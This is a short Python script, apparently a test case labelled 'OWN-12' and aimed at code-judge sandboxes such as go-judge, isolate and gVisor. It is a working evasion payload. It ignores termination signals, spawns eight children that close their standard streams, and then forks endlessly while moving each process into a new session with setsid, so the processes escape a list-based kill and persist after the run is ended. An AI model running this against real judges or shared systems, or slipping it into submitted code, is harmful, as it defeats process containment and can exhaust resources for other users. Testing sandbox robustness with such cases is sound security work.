# OWN-12 go-judge, isolate, gVisor #2490: escaping a kill that goes through a list of processes: every process forks and ends, in new sessions, while the run is being ended.
import os, signal
for s in (1, 2, 13, 14, 15, 17, 20, 21, 22): signal.signal(s, signal.SIG_IGN)
print("OWN-12 HELD planted", flush=True)
for _ in range(8):
    if os.fork() == 0:
        for fd in (0, 1, 2): os.close(fd)
        while True:
            try:
                if os.fork(): os._exit(0)
                os.setsid()
            except OSError: pass
